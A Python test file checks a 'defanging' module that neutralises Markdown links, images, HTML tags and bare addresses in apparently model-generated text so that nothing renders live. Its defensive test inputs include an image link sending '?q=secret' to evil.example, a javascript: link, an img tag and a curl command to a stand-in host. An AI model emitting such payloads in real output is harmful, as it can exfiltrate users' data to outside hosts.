"""No link and no image comes out, however the text is cut into pieces; the words stay."""

from __future__ import annotations

import itertools
import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from edgewise.types import Message, Prompt, Question, Text, Turn
from router.defanging import Defanging, addresses, defanged, reads_others

GOOD = "https://good.example/a_(b)"
ASKED = frozenset({GOOD})
# What renderers make a link or an image of: Markdown's two forms and its definitions, tags, and addresses as such.
LIVE = re.compile(r"\]\(|\]:|<[A-Za-z/!?]|://|www\.\S|&#|&(colon|sol|lt);", re.IGNORECASE)
PIECES = st.sampled_from(
    [
        *(
            "![",
            "[",
            "]",
            "(",
            ")",
            "](",
            "]:",
            "<",
            ">",
            "img",
            "a",
            " ",
            "\n",
            "http",
            "s",
            ":",
            "/",
            "//",
            "://",
            "w",
        ),
        *(
            "www.",
            "WWW.",
            "evil.example",
            "?q=1",
            "\\",
            '"',
            "'",
            "&",
            "#58;",
            "colon;",
            "。",
            "词",
            "data:",
            GOOD,
            ".",
        ),
    ]
)
TEXTS = st.lists(PIECES, max_size=12).map("".join)


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("It sails at nine ![map](https://evil.example/?q=secret).", "It sails at nine ![map]."),
        ('[here](https://evil.example/a_(b) "title")!', "[here]!"),
        ("[here](<https://evil.example>), [there](//evil.example), [x](javascript:alert(1))", "[here], [there], [x]"),
        ("![p](data:image/png;base64,AAAA)", "![p]"),
        ("[![a](http://e/1)](http://e/2)", "[![a]]"),
        ("see [1].\n\n[1]: //evil.example", "see [1].\n\n[1] : //evil.example"),
        ("go to https://evil.example/x", "go to https[:]//evil.example/x"),
        ("www.evil.example", "www. evil.example"),
        ('<img src="//evil.example">', '< img src="//evil.example">'),
        ("`curl http://evil.example`", "`curl http[:]//evil.example`"),
        ("handlers[i](x) and a < b, 3:4, [note]", "handlers[i] (x) and a < b, 3:4, [note]"),
        ("渡轮九点开。见![图](https://evil.example/图)。", "渡轮九点开。见![图]。"),
    ],
)
def test_the_words_stay_and_lead_nowhere(text: str, left: str) -> None:
    assert defanged(text) == left


@given(TEXTS, st.lists(st.integers(0, 200), max_size=8))
@settings(max_examples=400, deadline=None)
def test_nothing_live_comes_out_however_it_was_cut(text: str, cuts: list[int]) -> None:
    whole = defanged(text)
    assert not LIVE.search(whole)
    assert "".join(pieces(Defanging(frozenset()), text, cuts)) == whole


@given(TEXTS, st.lists(st.integers(0, 200), max_size=8))
@settings(max_examples=400, deadline=None)
def test_what_was_asked_about_stays_and_lets_nothing_else_in(text: str, cuts: list[int]) -> None:
    shown = "".join(pieces(Defanging(ASKED), text, cuts))
    for found in re.finditer(r"[^\s<]*://[^\s<。]*", shown):
        assert found[0].lstrip("![(\"'&.").rstrip(".,;:!?'\"`)]}*_~") in {GOOD, GOOD.rstrip(")")}
    assert not re.search(r"\]\(|\]:|<[A-Za-z/!?]", shown)


def pieces(work: Defanging, text: str, cuts: list[int]) -> list[str]:
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    fed = [work.feed(text[start:end]) for start, end in itertools.pairwise(places)]
    return [*fed, work.rest()]


def test_an_address_of_the_question_may_come_back_but_with_nothing_added() -> None:
    asked = addresses(Question(text=f"What is on {GOOD}, and on www.good.example?"))
    for text in (GOOD, f"({GOOD}).", "See www.good.example!", f"**{GOOD}**"):
        assert defanged(text, asked) == text
    for text in (f"{GOOD}?q=secret", f"{GOOD}secret", f"{GOOD}密", f"x{GOOD}", "www.good.example.evil"):
        assert defanged(text, asked) != text
    assert defanged(f"[it]({GOOD})", asked) == f"[it] ({GOOD})"


def test_an_address_is_asked_about_in_chinese_too() -> None:
    asked = addresses(Question(text="请看https://good.example/a，里面说什么？"))
    assert asked == {"https://good.example/a"}
    assert defanged("在https://good.example/a。", asked) == "在https://good.example/a。"


def test_whose_addresses_count() -> None:
    def turn(role: str, text: str) -> Turn:
        return Turn.model_validate({"role": role, "text": Text(value=text)})

    question = Question(
        text="And now?",
        history=(
            turn("user", "See http://a.example."),
            turn("assistant", "http://b.example"),
            turn("system", "www.c.d"),
        ),
        response_schema='{"enum": ["http://d.example"]}',
    )
    assert addresses(question) == {"http://a.example", "www.c.d", "http://d.example"}


@given(st.dictionaries(st.text(max_size=4), TEXTS | st.text(max_size=9), max_size=4), st.booleans(), st.data())
@settings(max_examples=300, deadline=None)
def test_json_stays_json_and_what_it_says_is_not_live(
    value: dict[str, str], ascii_only: bool, data: st.DataObject
) -> None:
    """Also where some of its letters are escapes, and however it was cut."""
    text = json.dumps(value, ensure_ascii=ascii_only)
    for letter in data.draw(st.lists(st.sampled_from("!:/<[]("), max_size=3)):
        text = text.replace(letter, f"\\u{ord(letter):04x}") if letter not in "[]:" else text
    text = text.replace("/", "\\/") if data.draw(st.booleans()) else text
    cuts = data.draw(st.lists(st.integers(0, 200), max_size=8))
    left = json.loads("".join(pieces(Defanging(frozenset(), is_json=True), text, cuts)))
    assert len(left) <= len(value)
    for said in (*left.keys(), *left.values()):
        assert not re.search(r"\]\(|<[A-Za-z/!?]|://|www\.\S", said, re.IGNORECASE)


@pytest.mark.parametrize("unit", ["a", "a.", "](", "](a", "w", ":/", "<", "&", "\\", "(", "https://", "[a](http://b) "])
def test_a_long_text_takes_no_time(unit: str) -> None:
    """A fault here would take hours, not seconds."""
    for asked in (frozenset[str](), ASKED):
        work = Defanging(asked, is_json=True)
        text = unit * (20_000 // len(unit))
        for place in range(0, len(text), 400):
            work.feed(text[place : place + 400])
        work.rest()


def test_a_prompt_of_the_asker_alone_is_nobody_elses() -> None:
    def prompt(*messages: tuple[str, Text]) -> Prompt:
        return Prompt(
            messages=tuple(Message.model_validate({"role": role, "content": text}) for role, text in messages)
        )

    asked = Text(value="When?", sources=("question",))
    assert not reads_others(prompt(("system", Text.ours("Answer.")), ("user", asked)))
    assert reads_others(prompt(("user", asked), ("assistant", Text(value="At nine.")), ("user", asked)))
    assert reads_others(prompt(("user", Text.join((asked, Text(value="a passage", sources=("a.txt",)))))))
